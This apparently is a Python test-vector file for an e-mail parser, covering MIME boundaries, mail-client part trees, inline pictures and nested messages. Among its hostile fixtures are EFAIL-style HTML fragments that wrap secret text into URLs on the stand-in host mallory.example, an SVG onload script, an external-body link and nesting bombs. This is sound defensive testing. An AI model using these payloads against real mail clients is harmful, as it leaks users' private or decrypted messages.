"""Mails that are about structure: boundaries, the trees of mail programs, pictures, messages in the message."""

from collections.abc import Iterable
from typing import Any

from tests.vectors.making import (
    GIF,
    JPEG,
    OCTETS,
    PDF,
    PNG,
    Piece,
    Shown,
    Vector,
    calendar,
    enclosed,
    file,
    html,
    message,
    multi,
    part,
    picture,
    text,
    vector,
)

# -- boundaries


def boundaries() -> Iterable[Vector]:
    topic = "boundaries"
    two = (text("Dear Alice"), file("r.pdf", PDF))
    pdf = (Shown("r.pdf", "application/pdf", "", len(PDF)),)
    good: dict[str, Any] = {"says": ("Dear Alice",), "parts": pdf}

    def made(name: str, raw: bytes, hostile: bool = True, **expected: Any) -> Vector:
        kept = ("Dear Alice", PDF)
        return Vector(topic, name, message(Piece(raw)), kept=kept, hostile=hostile, **{**good, **expected})

    usual = multi("mixed", *two, boundary="B").raw
    yield vector(topic, "usual", multi("mixed", *two), **good)
    yield vector(
        topic,
        "preamble",
        multi("mixed", *two, preamble="This is a multi-part message.\r\n"),
        silent=("multi-part",),
        **good,
    )
    yield made("epilogue", usual + b"goodbye\r\n", hostile=False, silent=("goodbye",))
    yield vector(topic, "odd-signs", multi("mixed", *two, boundary="=_'()+_,-./:=?"), **good)
    yield vector(topic, "seventy-signs", multi("mixed", *two, boundary="b" * 70), **good)
    yield vector(topic, "over-seventy-signs", multi("mixed", *two, boundary="b" * 200), hostile=True, **good)
    yield made("never-closed", usual.removesuffix(b"--B--\r\n"))
    yield made("cut-in-an-attachment", usual[: usual.rindex(b"\r\n--B--")])
    yield made("lf-only", usual.replace(b"\r\n", b"\n"))
    yield made("spaces-after-delimiters", usual.replace(b"--B\r\n", b"--B \t\r\n"), hostile=False)
    yield made("not-named", usual.replace(b'; boundary="B"', b""))
    yield made("empty-name", usual.replace(b'"B"', b'""'))
    yield made("another-name", usual.replace(b'boundary="B"', b'boundary="C"'))
    yield made("upper-case-differs", usual.replace(b'boundary="B"', b'boundary="b"'))
    yield made("extended-parameter", usual.replace(b'boundary="B"', b"boundary*=utf-8''B"))
    yield made("continued-parameter", usual.replace(b'boundary="B"', b'boundary*0="B"; boundary*1=""'))
    yield made("named-twice", usual.replace(b'boundary="B"', b'boundary="B"; boundary="C"'))
    yield made(
        "prefix-of-another",
        usual.replace(b"Dear Alice", b"Dear Alice\r\n--Bx\r\n--B-\r\nstill"),
        says=("Dear Alice", "--Bx", "still"),
    )
    yield made(
        "indented-is-none", usual.replace(b"Dear Alice", b"Dear Alice\r\n --B\r\nstill"), says=("Dear Alice", "still")
    )
    yield made("empty-part-between", usual.replace(b"--B\r\n", b"--B\r\n\r\n--B\r\n", 1), hostile=True)
    nested = multi("alternative", text("Dear Alice"), html("<p>Dear Alice</p>", words="Dear Alice"), boundary="B")
    yield vector(
        topic, "inner-has-the-same", multi("mixed", nested, file("r.pdf", PDF), boundary="B"), says=("Dear Alice",), parts=pdf,
        more=1, hostile=True, problems=("bad-encoding",),
    )  # fmt: skip
    inner = multi("mixed", text("Dear Alice"), boundary="inner", close=False)
    yield vector(
        topic, "inner-never-closed", multi("mixed", inner, file("r.pdf", PDF), boundary="outer"), hostile=True, **good
    )
    yield vector(
        topic,
        "inner-is-a-prefix",
        multi("mixed", multi("mixed", text("Dear Alice"), boundary="out"), file("r.pdf", PDF), boundary="outer"),
        hostile=True,
        **good,
    )
    nothing = b"Content-Type: multipart/mixed; boundary=B\r\n\r\nDear Alice, there is no part\r\n"
    yield Vector(
        topic,
        "no-part-at-all",
        message(Piece(nothing)),
        says=("there is no part",),
        problems=("bad-encoding",),
        hostile=True,
    )
    closed = b"Content-Type: multipart/mixed; boundary=B\r\n\r\nDear Alice\r\n--B--\r\n"
    yield Vector(
        topic, "closed-at-once", message(Piece(closed)), says=("Dear Alice",), problems=("bad-encoding",), hostile=True
    )
    yield Vector(
        topic,
        "empty-multipart",
        message(Piece(b"Content-Type: multipart/mixed; boundary=B\r\n\r\n")),
        problems=("bad-encoding",),
        hostile=True,
    )
    part_without_break = b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nDear Alice\r\n--B--\r\n"
    yield Vector(topic, "part-without-headers", message(Piece(part_without_break)), says=("Dear Alice",), hostile=True)


# -- trees of mail programs


def trees() -> Iterable[Vector]:
    topic = "trees"
    plain = text("Dear Alice, fine.", encoding="quoted-printable")
    rich = html("<div dir='ltr'>Dear Alice, <b>fine</b>.</div>", words="Dear Alice, fine.", encoding="quoted-printable")
    pdf, pdf_shown = file("r.pdf", PDF, "application/pdf"), Shown("r.pdf", "application/pdf", "", len(PDF))
    png_shown = Shown("attachment-1.png", "image/png")
    says: dict[str, Any] = {"says": ("Dear Alice,", "fine"), "html": True}
    alternative = multi("alternative", plain, rich)
    yield vector(topic, "gmail", alternative, **says)
    yield vector(topic, "gmail-with-file", multi("mixed", alternative, pdf), parts=(pdf_shown,), **says)
    logo = html('<p>Dear Alice, fine. <img src="cid:logo"></p>', words="Dear Alice, fine.")
    related = multi("related", logo, picture("logo"), parameters='; type="text/html"')
    yield vector(
        topic, "outlook", multi("mixed", multi("alternative", plain, related), pdf), parts=(pdf_shown,), **says
    )
    yield vector(
        topic, "outlook-related-outside", multi("related", multi("alternative", plain, logo), picture("logo")), **says
    )
    yield vector(
        topic,
        "thunderbird",
        multi("mixed", multi("alternative", plain, related), pdf, text("list footer")),
        parts=(pdf_shown,),
        more=1,
        says=("Dear Alice,", "list footer"),
        html=True,
    )
    apple = multi(
        "mixed",
        html("<p>Dear Alice,</p>", words="Dear Alice,"),
        file("r.pdf", PDF, "application/pdf", "inline"),
        html("<p>fine.</p>", words="fine."),
    )
    yield vector(
        topic, "apple-mixed-in-alternative", multi("alternative", plain, apple), parts=(pdf_shown,), more=1, **says
    )
    yield vector(
        topic, "apple-text-between-pictures",
        multi("mixed", text("Before the scan"), picture(), text("between"),
              picture(content=GIF, media_type="image/gif"), text("after.")),
        says=("Before the scan", "between", "after."), more=2, parts=(png_shown, Shown("attachment-2.gif", "image/gif")),
    )  # fmt: skip
    yield vector(
        topic, "apple-html-between-pictures",
        multi("alternative", text("words for old programs"),
              multi("mixed", html("<p>one</p>", words="one"), picture(), html("<p>two</p>", words="two"))),
        says=("one", "two"), silent=("words for old programs",), html=True, more=1, parts=(png_shown,),
    )  # fmt: skip
    yield vector(
        topic,
        "apple-blank-html-after-file",
        multi("mixed", text("Dear Alice, fine."), pdf, html("<html><head></head><body></body></html>")),
        says=("Dear Alice, fine.",),
        parts=(pdf_shown,),
    )
    yield vector(topic, "html-before-text", multi("alternative", rich, plain), **says)
    yield vector(
        topic,
        "blank-html",
        multi("alternative", plain, html("<html><body>&nbsp;<br></body></html>")),
        says=("Dear Alice, fine.",),
    )
    yield vector(
        topic,
        "html-of-remote-pictures-alone",
        multi("alternative", plain, html('<table><tr><td><img src="https://news.example/a.png"></td></tr></table>')),
        says=("Dear Alice, fine.",),
        problems=("remote-left-out",),
    )
    yield vector(topic, "blank-text", multi("alternative", text(" \r\n"), rich), **says)
    yield vector(topic, "blank-text-then-html", multi("mixed", text("\r\n"), rich), **says)
    yield vector(
        topic, "text-then-html-in-mixed", multi("mixed", text("Hello,"), rich), says=("Hello,", "fine"), more=1
    )
    yield vector(
        topic,
        "two-html",
        multi("mixed", rich, html("<p>P.S. call me</p>", words="P.S. call me")),
        says=("fine", "P.S. call me"),
        html=True,
        more=1,
    )
    amp = multi("alternative", plain, text("<html amp>", subtype="x-amp-html"), rich)
    yield vector(topic, "amp", Piece(amp.raw, plain.kept), html=True, says=("fine",), silent=("amp",))
    yield vector(
        topic,
        "enriched-too",
        multi("alternative", plain, text("<bold>fine</bold>", subtype="enriched"), rich),
        html=True,
        says=("fine",),
        parts=(Shown("attachment-1.bin"),),
    )
    yield vector(
        topic,
        "text-in-three-forms",
        multi("alternative", text("short"), plain),
        says=("Dear Alice, fine.",),
        parts=(Shown("attachment-1.txt"),),
    )
    yield vector(
        topic,
        "text-file-inline",
        multi("mixed", plain, file("notes.txt", b"my notes", "text/plain", "inline")),
        says=("Dear Alice, fine.",),
        parts=(Shown("notes.txt", OCTETS, "", 8),),
    )
    yield vector(
        topic,
        "text-file-attached",
        multi("mixed", plain, file("notes.txt", b"my notes", "text/plain")),
        says=("Dear Alice, fine.",),
        parts=(Shown("notes.txt", OCTETS, "", 8),),
    )
    yield vector(
        topic,
        "html-file-attached",
        multi("mixed", plain, file("page.html", b"<p>page", "text/html")),
        says=("Dear Alice, fine.",),
        parts=(Shown("page.html", OCTETS, "", 7),),
    )
    yield vector(
        topic,
        "mixed-in-mixed",
        multi("mixed", multi("mixed", plain, text("second")), multi("mixed", text("third"), pdf)),
        says=("Dear Alice, fine.", "second", "third"),
        more=2,
        parts=(pdf_shown,),
    )
    yield vector(
        topic, "unknown-multipart", multi("x-strange", plain, pdf), says=("Dear Alice, fine.",), parts=(pdf_shown,)
    )
    yield vector(
        topic, "parallel", multi("parallel", plain, picture()), says=("Dear Alice, fine.",), parts=(png_shown,)
    )
    yield vector(topic, "form-data", multi("form-data", plain, pdf), says=("Dear Alice, fine.",), parts=(pdf_shown,))


# -- pictures


def pictures() -> Iterable[Vector]:
    topic = "pictures"

    def shows(source: str, *parts_: Piece, fields: tuple[str, ...] = (), before: tuple[Piece, ...] = ()) -> Piece:
        return multi(
            "related", *before, html(f"<p>See <img src={source} alt='the scan'></p>", *fields, words="See"), *parts_
        )

    image = '<img src="data:image/png;base64,'
    located = "Content-Location: "
    yield vector(
        topic, "cid", shows('"cid:a@clinic.example"', picture("a@clinic.example")), html=True, says=("See", image)
    )
    yield vector(
        topic, "cid-escaped", shows('"cid:a%40clinic.example"', picture("a@clinic.example")), html=True, says=(image,)
    )
    yield vector(
        topic, "cid-without-brackets", shows('"cid:a"', picture("", PNG, "Content-ID: a")), html=True, says=(image,)
    )
    yield vector(topic, "cid-octets", shows('"cid:a"', picture("a", media_type=OCTETS)), html=True, says=(image,))
    yield vector(
        topic, "cid-jpeg-called-png", shows('"cid:a"', picture("a", JPEG)), html=True, says=("data:image/jpeg;base64,",)
    )
    yield vector(
        topic,
        "location-absolute",
        shows('"https://clinic.example/a.png"', picture("", PNG, located + "https://clinic.example/a.png")),
        html=True,
        says=(image,),
    )
    yield vector(
        topic, "location-relative", shows('"a.png"', picture("", PNG, located + "a.png")), html=True, says=(image,)
    )
    yield vector(
        topic,
        "location-against-a-base",
        shows(
            '"pics/a.png"',
            picture("", PNG, located + "https://clinic.example/x/pics/a.png"),
            fields=(located + "https://clinic.example/x/page.html",),
        ),
        html=True,
        says=(image,),
    )
    yield vector(
        topic,
        "location-folded",
        shows(
            '"https://clinic.example/long/a.png"', picture("", PNG, located + "https://clinic.example/\r\n long/a.png")
        ),
        html=True,
        says=(image,),
    )
    yield vector(
        topic, "location-single-quotes", shows("'a.png'", picture("", PNG, located + "a.png")), html=True, says=(image,)
    )
    yield vector(
        topic, "location-and-cid", shows('"cid:a"', picture("a", PNG, located + "a.png")), html=True, says=(image,)
    )
    yield vector(
        topic,
        "location-of-another-mail",
        multi(
            "mixed",
            shows('"https://clinic.example/a.png"'),
            enclosed(picture("", PNG, located + "https://clinic.example/a.png"), "inner"),
        ),
        html=True,
        nested=1,
        problems=("remote-left-out",),
        parts=(Shown("attachment-1.eml", OCTETS, "message"), Shown("attachment-2.png", "image/png")),
        silent=(image,),
    )
    yield vector(
        topic,
        "not-there",
        shows('"cid:b"', picture("a")),
        html=True,
        says=("[the scan]",),
        parts=(Shown("attachment-1.png", "image/png"),),
        problems=("picture-left-out",),
    )
    yield vector(
        topic,
        "not-a-picture",
        shows('"cid:a"', part("image/png", b"<script>", "Content-ID: <a>", encoding="base64")),
        html=True,
        parts=(Shown("attachment-1.png"),),
        problems=("picture-left-out",),
        hostile=True,
    )
    yield vector(
        topic,
        "svg",
        shows('"cid:a"', part("image/svg+xml", b"<svg onload='alert(1)'/>", "Content-ID: <a>")),
        html=True,
        parts=(Shown("attachment-1.bin"),),
        problems=("picture-left-out",),
        hostile=True,
    )
    yield vector(
        topic,
        "start-parameter",
        multi(
            "related",
            picture("a"),
            html('<p>See <img src="cid:a"></p>', "Content-ID: <root>", words="See"),
            parameters='; start="<root>"',
        ),
        html=True,
        says=(image,),
    )
    yield vector(
        topic,
        "attached-and-shown",
        shows('"cid:a"', picture("a", PNG, 'Content-Disposition: attachment; filename="a.png"')),
        html=True,
        says=(image,),
        parts=(Shown("a.png", "image/png"),),
    )
    yield vector(
        topic,
        "one-picture-ten-times",
        multi("related", html("<img src='cid:a'>" * 10), picture("a")),
        html=True,
        says=(image,),
    )
    yield vector(
        topic,
        "same-id-twice",
        shows('"cid:a"', picture("a"), picture("a", GIF, media_type="image/gif")),
        html=True,
        says=(image,),
        parts=(Shown("attachment-1.gif", "image/gif"),),
        hostile=True,
    )
    yield vector(
        topic,
        "html-in-related-is-a-file",
        shows('"cid:a"', picture("a"), html("<p>frame</p>", "Content-ID: <f>", words="frame")),
        html=True,
        says=(image,),
        silent=("frame",),
        parts=(Shown("attachment-1.html"),),
    )


# -- messages in the message


def nested() -> Iterable[Vector]:
    topic, eml = "nested", Shown("attachment-1.eml", OCTETS, "message")
    cover = text("See the mail below.")
    inner = text("the inner words")
    says = ("See the mail below.", "the inner words", "Inner")
    rich = html("<p>the <b>inner</b> words</p>", words="the inner words")
    yield vector(topic, "forwarded", multi("mixed", cover, enclosed(inner, "Inner")), says=says, parts=(eml,), nested=1)
    yield vector(
        topic,
        "forwarded-as-attachment",
        multi("mixed", cover, enclosed(inner, "Inner", how="attachment; filename=inner.eml")),
        says=says,
        parts=(Shown("inner.eml", OCTETS, "message"),),
        nested=1,
    )
    yield vector(
        topic,
        "html",
        multi("mixed", cover, enclosed(rich, "Inner")),
        says=("See the mail below.", "inner"),
        parts=(eml,),
        nested=1,
    )
    yield vector(
        topic,
        "its-own-attachments",
        multi("mixed", cover, enclosed(multi("mixed", inner, file("r.pdf", PDF)), "Inner")),
        says=says,
        parts=(eml, Shown("r.pdf", "application/pdf")),
        nested=1,
    )
    yield vector(
        topic,
        "its-own-picture",
        multi(
            "mixed",
            cover,
            enclosed(
                multi(
                    "related", html('<p>the inner words <img src="cid:a"></p>', words="the inner words"), picture("a")
                ),
                "Inner",
            ),
        ),
        says=("the inner words", "data:image/png"),
        parts=(eml,),
        nested=1,
    )
    outer = html('<p>outer <img src="cid:a" alt="mine"></p>', words="outer")
    yield vector(
        topic,
        "pictures-stay-with-their-mail",
        multi("mixed", outer, enclosed(multi("mixed", inner, picture("a")), "Inner")),
        html=True,
        nested=1,
        silent=("data:image",),
        says=("outer",),
        parts=(eml, Shown("attachment-2.png", "image/png")),
        problems=("picture-left-out",),
    )
    yield vector(
        topic,
        "two",
        multi("mixed", cover, enclosed(inner, "Inner"), enclosed(text("other words"), "Other")),
        says=(*says, "other words", "Other"),
        parts=(eml, Shown("attachment-2.eml", OCTETS, "message")),
        nested=2,
    )
    yield vector(
        topic,
        "digest",
        Piece(
            multi(
                "digest",
                Piece(b"\r\n" + message(inner, "Inner"), inner.kept),
                Piece(b"\r\n" + message(text("other words"), "Other")),
            ).raw
        ),
        says=("the inner words", "other words"),
        parts=(eml, Shown("attachment-2.eml", OCTETS, "message")),
        nested=2,
    )
    yield vector(topic, "message-alone", enclosed(inner, "Inner"), says=("the inner words",), parts=(eml,), nested=1)
    yield vector(
        topic,
        "message-global",
        part("message/global", message(inner, "Größe"), kept=inner.kept),
        says=("the inner words", "Größe"),
        parts=(eml,),
        nested=1,
    )
    yield vector(
        topic,
        "in-base64",
        multi("mixed", cover, enclosed(inner, "Inner", encoding="base64")),
        says=says,
        parts=(eml,),
        nested=1,
        hostile=True,
    )
    yield vector(
        topic,
        "in-quoted-printable",
        multi("mixed", cover, enclosed(inner, "Inner", encoding="quoted-printable")),
        says=says,
        parts=(eml,),
        nested=1,
        hostile=True,
    )
    yield vector(
        topic,
        "invitation-inside",
        multi("mixed", cover, enclosed(calendar(), "Inner")),
        says=("Blood test", "Room 4"),
        parts=(eml, Shown("attachment-2.ics", OCTETS, "calendar")),
        nested=1,
        told=1,
    )
    deep = enclosed(text("level 4"), "Level 4")
    for level in (3, 2, 1):
        deep = enclosed(multi("mixed", text(f"level {level}"), deep), f"Level {level}")
    four = tuple(Shown(f"attachment-{n}.eml", OCTETS, "message") for n in (1, 2, 3, 4))
    yield vector(
        topic,
        "four-deep",
        multi("mixed", cover, deep),
        says=("level 1", "level 2", "level 3", "level 4", "Level 4"),
        parts=four,
        nested=4,
    )
    yield vector(
        topic,
        "five-deep",
        multi("mixed", cover, enclosed(deep, "Level 0")),
        says=("level 1", "level 3"),
        silent=("level 4",),
        parts=(*four, Shown("attachment-5.eml", OCTETS, "message")),
        nested=4,
        problems=("too-deep",),
        hostile=True,
    )
    bomb = text("the bottom")
    for level in range(60):
        bomb = enclosed(bomb, f"Level {level}")
    yield vector(
        topic,
        "sixty-deep",
        bomb,
        silent=("the bottom",),
        parts=(*four, Shown("attachment-5.eml", OCTETS, "message")),
        nested=4,
        problems=("too-deep",),
        hostile=True,
    )
    many = multi("mixed", *[enclosed(text(f"mail {n}"), f"Mail {n}") for n in range(40)])
    yield vector(
        topic,
        "forty",
        many,
        says=("mail 0", "mail 29"),
        parts=tuple(Shown(f"attachment-{n}.eml", OCTETS, "message") for n in range(1, 41)),
        nested=30,
        problems=("too-many-parts",),
        hostile=True,
    )
    yield vector(
        topic,
        "unreadable-inside",
        multi("mixed", cover, part("message/rfc822", b"Subject: Inner\r\n" + b"X: y\r\n" * 300 + b"\r\nwords")),
        says=("See the mail below.",),
        parts=(eml,),
        problems=("part-unread",),
        hostile=True,
    )
    yield vector(
        topic,
        "empty",
        multi("mixed", cover, part("message/rfc822", b"")),
        says=("See the mail below.",),
        parts=(eml,),
        nested=1,
        hostile=True,
    )
    yield vector(
        topic,
        "inner-has-the-outer-boundary",
        multi(
            "mixed",
            cover,
            part(
                "message/rfc822",
                b"Subject: Inner\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n\r\nthe inner words\r\n",
                kept=("the inner words",),
            ),
            boundary="B",
        ),
        says=("the inner words",),
        parts=(eml,),
        nested=1,
        more=1,
        problems=("bad-encoding",),
        hostile=True,
    )
    left_open = '<p>outer <img alt="'
    closing = 'x"> <a href="https://mallory.example/">the inner words</a>'
    yield vector(
        topic,
        "efail",
        multi(
            "mixed",
            html(left_open, words=""),
            enclosed(html(closing, words="the inner words"), "Inner"),
            html('"></p>after'),
        ),
        html=True,
        nested=1,
        more=1,
        parts=(eml,),
        says=("the inner words",),
        hostile=True,
    )
    opened, ended = html('<p>hello</p><img src="https://mallory.example/?'), html('"><p>bye</p>', words="bye")
    yield vector(
        topic,
        "efail-in-one-mail",
        multi("mixed", opened, text("the secret words"), ended),
        says=("hello", "the secret words", "bye"),
        silent=("mallory.example/?",),
        html=True,
        more=2,
        hostile=True,
    )
    yield vector(
        topic,
        "partial",
        part('message/partial; id="a"; number=1; total=2', b"half of it"),
        parts=(Shown("attachment-1.bin", OCTETS, "", 10),),
    )
    yield vector(
        topic,
        "external-body",
        part(
            'message/external-body; access-type=URL; URL="https://mallory.example/"',
            b"Content-Type: text/plain\r\n\r\n",
        ),
        parts=(Shown("attachment-1.bin"),),
        hostile=True,
    )
